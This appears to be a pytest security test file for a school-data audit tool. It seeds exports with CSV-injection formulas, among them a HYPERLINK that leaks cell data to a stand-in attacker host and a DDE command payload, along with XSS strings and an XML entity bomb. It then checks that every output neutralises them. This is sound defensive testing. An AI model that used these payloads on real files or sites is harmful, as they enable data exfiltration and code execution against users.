"""Nothing the tool writes can attack the person who opens it, and untrusted workbooks are read
with XML-bomb protection.

An export whose names, streets and emails are attack strings (OWASP CSV injection, markup,
``javascript:`` links) goes through every command; then every workbook, CSV, Markdown and HTML
file the tool wrote is opened and searched for a live formula or live markup. The fixed export
itself is the SIS's own data for re-import and is left as the SIS wrote it; the files the tool
adds beside it (changes.csv, retired_contacts.csv) are checked.
"""

from __future__ import annotations

import csv
import io
import re
import zlib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from audits.cli import main
from audits.model.errors import UserError
from audits.io.loading.folder import load_board

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
            "<script>alert('x')</script>", '"><img src=x onerror=alert(1)>',
            "javascript:alert(1)", "</script><svg onload=alert(1)>"]
RISKY_START = ("=", "+", "-", "@", "\t", "\r")
CORPUS = Path(__file__).parent / "data" / "bad"


def run(*args: str):
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exit_code in (0, 1), result.output
    return result


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A small sample board whose people carry attack strings, and every output of it."""
    root = tmp_path_factory.mktemp("hostile")
    board = root / "board"
    run("sample", board, "--students", "300", "--seed", "5")
    contacts = pd.read_csv(board / "contacts.csv", dtype=str, keep_default_na=False)
    # Attack strings lead the names (a spreadsheet looks only at the first character) and
    # the same string goes to both records of a household so the duplicates are still found.
    payload = contacts["last_name"].map(lambda name: PAYLOADS[zlib.crc32(name.encode())
                                                               % len(PAYLOADS)])
    contacts["first_name"] = payload + contacts["first_name"]
    contacts["street"] = payload + " " + contacts["street"]
    contacts.to_csv(board / "contacts.csv", index=False, lineterminator="\r\n")
    schools = pd.read_csv(board / "schools.csv", dtype=str, keep_default_na=False)
    schools["school_name"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(schools))]
    schools.to_csv(board / "schools.csv", index=False, lineterminator="\r\n")

    out = root / "out"
    run("audit", board, "--out", out, "--quiet")
    run("preview", board, "--out", root / "preview.csv")
    run("fix", "plan", out / "findings.json", "--out", root / "plan.json")
    run("fix", "apply", root / "plan.json", board, "--out", root / "fixed", "--write", "--force",
        "--apply-rest")
    return root


def written_files(root: Path, suffixes: tuple[str, ...]) -> list[Path]:
    board_tables = {p.name for p in (root / "board").glob("*.csv")}
    files = []
    for path in sorted(root.rglob("*")):
        if path.suffix not in suffixes or root / "board" in path.parents:
            continue
        if root / "fixed" in path.parents and path.name in board_tables:
            continue  # the fixed export: the SIS's own data, byte-for-byte where untouched
        files.append(path)
    return files


def test_the_outputs_carry_the_attack_strings(hostile):
    text = (hostile / "out" / "findings.json").read_text(encoding="utf-8")
    assert any(m in text for m in ("HYPERLINK", "=1+1", "@SUM", "+1+cmd")), "no formula reached"
    assert any(m in text for m in ("<script", "onerror", "<svg")), "no markup reached"
    assert (hostile / "fixed" / "changes.csv").exists()


def test_no_csv_the_tool_writes_has_a_cell_a_spreadsheet_would_run(hostile):
    files = written_files(hostile, (".csv",))
    assert {p.name for p in files} >= {"preview.csv", "changes.csv"}
    risky = []
    for path in files:
        text = path.read_bytes().decode("utf-8-sig")
        for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
            risky += [(path.name, number, cell) for cell in row if cell.startswith(RISKY_START)]
    assert not risky, risky[:5]


def test_no_workbook_the_tool_writes_has_a_formula(hostile):
    files = written_files(hostile, (".xlsx",))
    assert [p.name for p in files] == ["audit.xlsx"]
    seen = 0
    for path in files:
        book = openpyxl.load_workbook(path)
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate)
                    if isinstance(cell.value, str) and cell.value.startswith(RISKY_START):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                        seen += 1
    assert seen, "attack strings must show in the workbook, as text"


def test_markdown_runbooks_show_attack_strings_as_text(hostile):
    files = written_files(hostile, (".md",))
    assert files
    for path in files:
        text = path.read_text(encoding="utf-8")
        # CommonMark reads a backslashed "<" as a literal "<": only a bare one opens a tag.
        assert not re.search(r"(?<!\\)<[A-Za-z/!]", text), path.name
        assert not re.search(r"javascript:", text, re.IGNORECASE), path.name
        assert "](javascript" not in text.lower()


def test_html_pages_escape_markup_and_links(hostile):
    files = written_files(hostile, (".html",))
    assert {p.name for p in files} >= {"audit.html", "index.html"}
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert "<script>alert" not in text, path.name
        assert "<img src=x" not in text and "<svg onload" not in text, path.name
        assert not re.search(r"""(?:href|src|action)\s*=\s*["']?\s*javascript:""", text,
                             re.IGNORECASE), path.name
        assert not re.search(r"<[^>]*\sonerror\s*=", text), path.name


def test_runbook_pages_show_the_names_escaped(hostile):
    pages = [p for p in written_files(hostile, (".html",)) if "runbooks" in p.parts
             and p.name != "index.html"]
    assert pages
    text = "".join(p.read_text(encoding="utf-8") for p in pages)
    assert "&lt;script&gt;" in text or "&lt;/script&gt;" in text or "&#34;&gt;&lt;img" in text \
        or "&lt;img" in text


# --- XML bombs ---------------------------------------------------------------------------------

def test_workbooks_are_parsed_with_defusedxml():
    import defusedxml  # noqa: F401 - the protection openpyxl relies on must be installed

    assert openpyxl.DEFUSEDXML is True


def test_a_billion_laughs_workbook_is_refused_not_expanded():
    with pytest.raises(UserError) as raised:
        load_board(CORPUS / "xlsx_billion_laughs" / "board.xlsx")
    [problem] = raised.value.problems
    assert problem.kind == "unreadable-workbook" and "XML bomb" in problem.message


def test_an_entity_in_the_shared_strings_is_refused_too(tmp_path):
    import zipfile

    from boards import board_tables, write_xlsx_board

    path = write_xlsx_board(tmp_path / "b.xlsx", board_tables())
    with zipfile.ZipFile(path) as source:
        contents = {i.filename: source.read(i.filename) for i in source.infolist()}
    part = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in contents else "xl/workbook.xml"
    xml = contents[part]
    declaration_end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    contents[part] = (xml[:declaration_end] + b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
                      b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + xml[declaration_end:])
    with zipfile.ZipFile(path, "w") as target:
        for name, data in contents.items():
            target.writestr(name, data)
    with pytest.raises(UserError) as raised:
        load_board(path)
    assert "XML bomb" in raised.value.render()


# --- atomic outputs, and the export is never modified ------------------------------------------

REPORTS = ("findings.json", "audit.xlsx", "audit.html")


def leftovers(folder: Path) -> list[str]:
    """Temporary files a writer left behind (they start with a dot)."""
    return sorted(p.name for p in folder.rglob(".*") if p.is_file())


@pytest.fixture(scope="module")
def small_board(tmp_path_factory) -> Path:
    board = tmp_path_factory.mktemp("small") / "board"
    run("sample", board, "--students", "200", "--seed", "3")
    return board


def test_a_crash_while_a_report_is_written_leaves_no_half_report(small_board, tmp_path,
                                                                 monkeypatch):
    real = Path.write_text

    def half_then_crash(self, text, *args, **kwargs):
        if self.name.startswith(".audit.html."):
            real(self, text[: len(text) // 2], *args, **kwargs)
            raise KeyboardInterrupt("power cut while writing audit.html")
        return real(self, text, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", half_then_crash)
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["audit", str(small_board), "--out", str(out), "--quiet"])
    assert result.exit_code == 130  # interrupted, not "findings found"
    assert not (out / "audit.html").exists()
    assert leftovers(out) == []
    # The outputs are swapped in as one set: none of them, not even the finished findings.json.
    assert not (out / "findings.json").exists() and not (out / "runbooks").exists()


@pytest.mark.parametrize("failing", REPORTS)
def test_an_interrupted_rename_leaves_no_report_that_looks_finished(small_board, tmp_path,
                                                                    monkeypatch, failing):
    import os

    real = os.replace

    def replace(source, target, *args, **kwargs):
        if Path(target).name == failing:
            raise OSError("disk full")
        return real(source, target, *args, **kwargs)

    monkeypatch.setattr(os, "replace", replace)
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["audit", str(small_board), "--out", str(out), "--quiet"])
    assert result.exit_code != 0
    assert not (out / failing).exists()
    assert leftovers(out) == []


def test_preview_csv_is_written_atomically(small_board, tmp_path, monkeypatch):
    import os

    monkeypatch.setattr(os, "replace", lambda *a, **k: (_ for _ in ()).throw(OSError("full")))
    result = CliRunner().invoke(main, ["preview", str(small_board), "--out",
                                       str(tmp_path / "preview.csv")])
    assert result.exit_code != 0
    assert list(tmp_path.iterdir()) == []


def digests(path: Path) -> dict[str, str]:
    import hashlib

    files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file())
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


@pytest.mark.parametrize("xlsx", [False, True], ids=["csv-folder", "workbook"])
def test_no_command_modifies_the_export(tmp_path, xlsx):
    board = tmp_path / "board"
    run("sample", board, "--students", "200", "--seed", "9", *(["--xlsx"] if xlsx else []))
    if xlsx:
        board = next(board.glob("*.xlsx"))
    before = digests(board)
    out = tmp_path / "out"
    run("audit", board, "--out", out, "--quiet")
    run("check", board)
    run("preview", board, "--out", tmp_path / "preview.csv")
    run("fix", "plan", out / "findings.json", "--out", tmp_path / "plan.json")
    run("fix", "apply", tmp_path / "plan.json", board, "--out", tmp_path / "dry")
    run("fix", "apply", tmp_path / "plan.json", board, "--out", tmp_path / "fixed", "--write",
        "--force", "--apply-rest")
    run("fix", "undo", tmp_path / "fixed", "--out", tmp_path / "restored")
    assert digests(board) == before
    # And undo gives the export back, byte for byte.
    assert set(before.values()) <= set(digests(tmp_path / "restored").values())


# --- the payload corpus: formulas in values and headers, XML-forbidden and invisible characters --
# Each output is written from a board carrying the corpus and read back with its own reader
# (openpyxl, LibreOffice, Chromium, the csv module); the checks below spell the rule out
# independently of audits.io.cells, so a gap in that module shows here.

FORMULA_CORPUS = ['=HYPERLINK("http://x","y")', "@SUM(A1)", "+1", "-1+2", "\t=1", "\uff1d1"]
HIDDEN_CORPUS = ["\u202e", "\u2066", "\u200d", "\ufeff"]
NOT_XML = "".join(map(chr, range(1, 9))) + "\x0b\ufffe\uffff"
EXTRA_HEADERS = [*FORMULA_CORPUS, "note\u202esdrawkcab"]
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
# What must never stand raw in a file the tool writes for a person (tab and line breaks are
# layout; every other C0 control, DEL, C1, bidi controls, zero-width characters, the BOM,
# non-characters XML forbids).
HIDDEN_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e"
                       "\u2060\u2066-\u2069\ufeff\ufffe\uffff\ud800-\udfff]")


def live_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: a trigger first, or first after whitespace."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in tuple(TRIGGERS)


def _corrupt(text: str, k: int) -> str:
    """A name with a payload: a formula in front, then an invisible character inside."""
    hidden = HIDDEN_CORPUS[k % len(HIDDEN_CORPUS)] if k % 5 else NOT_XML
    return FORMULA_CORPUS[k % len(FORMULA_CORPUS)] + text[:1] + hidden + text[1:]


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """A sample board carrying the corpus in names, emails, streets, school names and extra
    contact columns (headers and values); every output of audit, preview and fix apply."""
    root = tmp_path_factory.mktemp("corpus")
    board = root / "board"
    run("sample", board, "--students", "300", "--seed", "5")
    contacts = pd.read_csv(board / "contacts.csv", dtype=str, keep_default_na=False)
    # Keyed by surname, so both records of a duplicated parent get the same payload and the
    # duplicates are still found (and merged: retired_contacts.csv carries every header).
    keys = contacts["last_name"].map(lambda name: zlib.crc32(name.encode()))
    contacts["first_name"] = [_corrupt(name, k) for name, k in zip(contacts["first_name"], keys)]
    contacts["last_name"] = [name[:2] + HIDDEN_CORPUS[k % 4] + name[2:]
                             for name, k in zip(contacts["last_name"], keys)]
    contacts["email"] = [email[:1] + "\u200d" + email[1:] if k % 3 == 0 and email else email
                         for email, k in zip(contacts["email"], keys)]
    contacts["street"] = "\u2066" + contacts["street"]
    for n, header in enumerate(EXTRA_HEADERS):
        contacts[header] = [FORMULA_CORPUS[(k + n) % len(FORMULA_CORPUS)] + "\u202e" + str(k)
                            for k in keys]
    contacts.to_csv(board / "contacts.csv", index=False, lineterminator="\r\n")
    students = pd.read_csv(board / "students.csv", dtype=str, keep_default_na=False)
    students["first_name"] = [_corrupt(name, k) for k, name in enumerate(students["first_name"])]
    students.to_csv(board / "students.csv", index=False, lineterminator="\r\n")
    schools = pd.read_csv(board / "schools.csv", dtype=str, keep_default_na=False)
    schools["school_name"] = [_corrupt(name, k) for k, name in enumerate(schools["school_name"])]
    schools.to_csv(board / "schools.csv", index=False, lineterminator="\r\n")

    out = root / "out"
    said = [run("audit", board, "--out", out).output,
            run("preview", board, "--out", root / "preview.csv").output,
            run("fix", "plan", out / "findings.json", "--out", root / "plan.json").output,
            run("fix", "apply", root / "plan.json", board, "--out", root / "fixed", "--write",
                "--force", "--apply-rest").output]
    (root / "terminal.txt").write_text("\n".join(said), encoding="utf-8", errors="surrogatepass")
    return root


def test_the_corpus_reaches_every_output(corpus):
    raw = (corpus / "out" / "findings.json").read_text(encoding="utf-8")
    # findings.json is data: the values stay as the export holds them.
    assert "\u202e" in raw and "\uffff" in raw and '=HYPERLINK(\\"http://x\\"' in raw
    retired = (corpus / "fixed" / "retired_contacts.csv").read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in retired.splitlines()[0], "the extra headers must reach the report"
    assert "\u27e8U+202E\u27e9" in retired
    # The fixed export's tables are the SIS's own data, re-imported: headers and values stay
    # as exported, formula-like or not (docs/reports.md); only the reports beside them change.
    original = (corpus / "board" / "contacts.csv").read_text(encoding="utf-8").splitlines()
    fixed = (corpus / "fixed" / "contacts.csv").read_text(encoding="utf-8").splitlines()
    assert fixed[0] == original[0] and "\u202e" in fixed[0]
    assert len(set(fixed) & set(original)) > len(original) // 2


def test_every_csv_the_tool_writes_defuses_headers_and_values_and_hides_nothing(corpus):
    files = written_files(corpus, (".csv",))
    assert {p.name for p in files} >= {"preview.csv", "changes.csv", "retired_contacts.csv"}
    bad = []
    for path in files:
        text = path.read_bytes().decode("utf-8-sig")
        bad += [(path.name, "raw", hex(ord(m.group()))) for m in HIDDEN_RE.finditer(text)]
        for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
            bad += [(path.name, number, cell) for cell in row if live_formula(cell)]
    assert not bad, bad[:8]
    # reconcile reads the preview back as it was: the escapes and quotes undone exactly.
    from audits.model.config import Config
    from audits.engine.context import AuditContext
    from audits.workflow.reconcile import read_preview

    preview = AuditContext(load_board(corpus / "board"), Config()).preview
    back = read_preview(corpus / "preview.csv")
    assert back["name"].tolist() == preview["name"].astype(str).tolist()
    assert any("\u202e" in name for name in back["name"])


def test_the_workbook_is_valid_xml_with_no_live_formula_and_nothing_hidden(corpus):
    import zipfile
    from xml.etree import ElementTree

    path = corpus / "out" / "audit.xlsx"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                ElementTree.fromstring(archive.read(name))  # raises on a forbidden character
    book = openpyxl.load_workbook(path)
    bad, shown = [], 0
    for sheet in book:
        if HIDDEN_RE.search(sheet.title):
            bad.append(("title", sheet.title))
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    bad.append((sheet.title, cell.coordinate, "formula"))
                if not isinstance(value, str):
                    continue
                if HIDDEN_RE.search(value):
                    bad.append((sheet.title, cell.coordinate, value))
                if live_formula(value):
                    shown += 1
                    if not cell.quotePrefix:
                        bad.append((sheet.title, cell.coordinate, value))
    assert not bad, bad[:8]
    assert shown, "the formula payloads must show in the workbook, as text"
    text = "".join(str(c.value) for s in book for r in s.iter_rows() for c in r)
    assert "\u27e8U+202E\u27e9" in text and "\u27e8U+FFFF\u27e9" in text


def test_html_markdown_and_the_terminal_show_every_hidden_character_escaped(corpus):
    files = written_files(corpus, (".html", ".md")) + [corpus / "terminal.txt"]
    assert len(files) > 3
    bad = []
    for path in files:
        text = path.read_text(encoding="utf-8", errors="surrogatepass")
        bad += [(path.name, hex(ord(m.group()))) for m in HIDDEN_RE.finditer(text)]
    assert not bad, bad[:8]
    runbooks = "".join(p.read_text(encoding="utf-8") for p in files if "runbooks" in p.parts)
    assert "\u27e8U+202E\u27e9" in runbooks and "\u27e8U+0001\u27e9" in runbooks


@pytest.mark.libreoffice
def test_libreoffice_opens_the_corpus_workbook_and_shows_formulas_as_text(corpus, tmp_path):
    import subprocess

    from boards import ALL_SHEETS_CSV, SOFFICE

    if not Path(SOFFICE).exists():
        pytest.skip("LibreOffice is not installed")
    profile = (tmp_path / "lo-profile").as_uri()
    done = subprocess.run(
        [SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--norestore",
         "--convert-to", ALL_SHEETS_CSV, "--outdir", str(tmp_path),
         str(corpus / "out" / "audit.xlsx")],
        capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    shown = "".join(p.read_text(encoding="utf-8") for p in tmp_path.glob("*.csv"))
    assert "HYPERLINK" in shown and "\u27e8U+202E\u27e9" in shown  # text, not a result
    assert not HIDDEN_RE.search(shown)


@pytest.mark.browser
def test_chromium_renders_the_corpus_report_with_the_escapes_and_no_error(corpus):
    from boards import CHROMIUM, LAUNCH_ARGS

    if not Path(CHROMIUM).exists():
        pytest.skip("Chromium is not installed")
    from playwright.sync_api import sync_playwright

    trouble: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=LAUNCH_ARGS)
        try:
            page = browser.new_page()
            page.on("console", lambda m: m.type == "error" and trouble.append(m.text))
            page.on("pageerror", lambda e: trouble.append(str(e)))
            page.goto((corpus / "out" / "audit.html").as_uri())
            page.wait_for_selector("body[data-ready=true]")
            page.locator("tr.finding").first.click()
            report = page.inner_text("body")
            runbook = next(p for p in (corpus / "out" / "runbooks").glob("*.html")
                           if p.name != "index.html")
            page.goto(runbook.as_uri())
            steps = page.inner_text("body")
        finally:
            browser.close()
    assert not trouble, trouble
    for text in (report, steps):
        assert "\u27e8U+" in text
        assert not HIDDEN_RE.search(text), HIDDEN_RE.search(text)
